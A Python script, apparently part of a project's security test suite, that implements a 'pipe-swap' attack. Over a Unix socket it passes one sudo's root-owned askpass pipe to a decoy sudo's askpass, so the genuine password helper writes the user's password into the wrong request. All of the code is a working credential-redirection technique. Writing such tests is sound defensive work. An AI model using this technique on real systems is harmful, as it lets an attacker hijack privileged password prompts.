# The pieces of the pipe-swap attack (issue 9, attack 2; ADR 0005), run by
# pipe_swap.sh. Three roles:
#   holder SOCK [keep]
#                 receive one descriptor over SCM_RIGHTS, hand it to the next
#                 client, close it, exit (so it holds the pipe only in flight);
#                 with "keep", hold a copy until that client (the decoy's
#                 askpass, which becomes the session's helper) has exited:
#                 held while the decoy's request is decided (a visible holder);
#   give SOCK     sudo B's askpass: pass its fd 1 (sudo B's root-owned 0600
#                 pipe) to the holder and exit without writing anything;
#   take SOCK LAUNCHER PROMPT
#                 the decoy sudo's askpass: receive sudo B's pipe, dup2 it onto
#                 fd 1, and exec the session's REAL launcher with the prompt,
#                 so the real helper (the decoy's direct child, exact argv and
#                 environment, a root-owned 0600 FIFO on fd 1) writes the
#                 password into sudo B's pipe.
import os
import select
import socket
import struct
import sys
import time


def connect(path):
    deadline = time.time() + 10
    while True:
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            return s
        except OSError:
            if time.time() > deadline:
                raise
            time.sleep(0.02)


role = sys.argv[1]
path = sys.argv[2]
if role == "holder":
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path)
    srv.listen(2)
    srv.settimeout(30)
    conn, _ = srv.accept()
    _, fds, _, _ = socket.recv_fds(conn, 16, 1)
    conn.close()
    open(path + ".got", "w").close()
    conn, _ = srv.accept()
    # The taker's pid (it execs the launcher, then the helper: the same pid).
    pid, _, _ = struct.unpack("3i", conn.getsockopt(
        socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i")))
    try:
        taker = os.pidfd_open(pid)
    except ProcessLookupError:
        taker = None
    socket.send_fds(conn, [b"x"], fds)
    conn.close()
    if sys.argv[3:] == ["keep"] and taker is not None:
        # Until the taker exits (bounded): its request is decided by then.
        select.select([taker], [], [], 60)
    if taker is not None:
        os.close(taker)
    for fd in fds:
        os.close(fd)
elif role == "give":
    s = connect(path)
    socket.send_fds(s, [b"x"], [1])
    s.close()
elif role == "take":
    s = connect(path)
    _, fds, _, _ = socket.recv_fds(s, 16, 1)
    s.close()
    os.dup2(fds[0], 1)
    os.close(fds[0])
    os.execv(sys.argv[3], [sys.argv[3], sys.argv[4]])
